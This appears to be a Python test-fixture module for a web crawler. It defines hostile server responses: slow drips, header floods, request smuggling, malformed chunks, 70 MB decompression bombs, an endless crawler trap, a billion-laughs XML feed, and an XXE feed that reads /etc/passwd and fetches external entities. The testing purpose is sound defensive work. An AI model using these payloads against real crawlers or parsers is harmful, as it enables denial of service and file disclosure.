"""Answers no honest server gives."""

from __future__ import annotations

import gzip
import re
import socket
import struct
import time
from http.server import BaseHTTPRequestHandler
from typing import Any

import brotli
from backports import zstd

from tests.crawl.bench import Answer, Route, html, links

BOMB = bytes(70_000_000)  # more than is ever decoded
_CALENDAR = re.compile(r"/list/calendar/[\d/]+")
_SMUGGLED = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 4\r\n\r\nevil"


def reset(handler: BaseHTTPRequestHandler) -> None:
    """The connection is torn down in the middle of the body (TCP RST)."""
    _begin(handler, 200_000)
    handler.wfile.write(b"x" * 50_000)
    handler.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    handler.close_connection = True


def drip(handler: BaseHTTPRequestHandler) -> None:
    _begin(handler, 1_000)
    for _ in range(40):
        handler.wfile.write(b".")
        time.sleep(1)


def drip_headers(handler: BaseHTTPRequestHandler) -> None:
    handler.wfile.write(b"HTTP/1.1 200 OK\r\n")
    for number in range(40):
        handler.wfile.write(b"X-%d: y\r\n" % number)
        time.sleep(1)


def flood_headers(handler: BaseHTTPRequestHandler) -> None:
    """As many as are taken, for as long as it lasts: without a limit of their number they fill the memory."""
    handler.wfile.write(b"HTTP/1.1 200 OK\r\n")
    line = b"".join(b"X-%d: %s\r\n" % (number, b"y" * 900) for number in range(1_000))
    ends = time.monotonic() + 30
    while time.monotonic() < ends:
        handler.wfile.write(line)


def one_endless_header(handler: BaseHTTPRequestHandler) -> None:
    handler.wfile.write(b"HTTP/1.1 200 OK\r\nX: ")
    for _ in range(300):
        handler.wfile.write(b"y" * 100_000)


def promise_more(handler: BaseHTTPRequestHandler) -> None:
    _begin(handler, 500_000)
    handler.wfile.write(html("not half of it")[2])
    handler.close_connection = True


def send_more(handler: BaseHTTPRequestHandler) -> None:
    """More than announced, and the surplus looks like the next answer on the connection."""
    body = html("all that was announced")[2]
    _begin(handler, len(body))
    handler.wfile.write(body + _SMUGGLED * 20)


def miscount_chunks(handler: BaseHTTPRequestHandler) -> None:
    handler.send_response(200)
    handler.send_header("Transfer-Encoding", "chunked")
    handler.end_headers()
    handler.wfile.write(b"5\r\nhello\r\nZZ\r\nwhat\r\n")
    handler.close_connection = True


def talk_nonsense(handler: BaseHTTPRequestHandler) -> None:
    handler.wfile.write(b"220 mail.example.org ESMTP\r\n\r\n")
    handler.close_connection = True


def _begin(handler: BaseHTTPRequestHandler, length: int) -> None:
    handler.send_response(200)
    handler.send_header("Content-Type", "text/html")
    handler.send_header("Content-Length", str(length))
    handler.end_headers()


def pack(coding: str, body: bytes = BOMB) -> Answer:
    how = {"gzip": lambda b: gzip.compress(b, 1), "br": lambda b: brotli.compress(b, quality=1), "zstd": zstd.compress}
    return 200, {"Content-Type": "text/html", "Content-Encoding": coding}, how[coding](body)


class Trap(dict[str, Route]):
    """Routes, and a calendar with thirty further pages on each of its pages, for ever."""

    def get(self, path: str, default: Any = None) -> Any:
        if _CALENDAR.fullmatch(path):
            return links(*(f"{path.rstrip('/')}/{day}" for day in range(30)))
        return super().get(path, default)


def laughing_feed(*addresses: str) -> Answer:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    items = "".join(f"<item><link>{address}</link></item>" for address in addresses)
    text = (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">{entities}]>'
        f"<rss><channel><title>&l11;</title>{items}<item><link>http://127.0.0.1/&l11;</link></item></channel></rss>"
    )
    return 200, {"Content-Type": "application/rss+xml"}, text.encode()


def prying_feed(site: str, *addresses: str) -> Answer:
    """Asks for a file of ours and for an address by way of entities."""
    items = "".join(f"<item><link>{address}</link></item>" for address in addresses)
    text = (
        f'<?xml version="1.0"?><!DOCTYPE rss SYSTEM "{site}/pried/dtd" [<!ENTITY f SYSTEM "file:///etc/passwd">'
        f'<!ENTITY u SYSTEM "{site}/pried/entity"><!ENTITY % p SYSTEM "{site}/pried/parameter">%p;]>'
        f"<rss><channel><title>&f;</title>{items}<item><link>{site}/articles/&f;&u;</link></item></channel></rss>"
    )
    return 200, {"Content-Type": "application/rss+xml"}, text.encode()
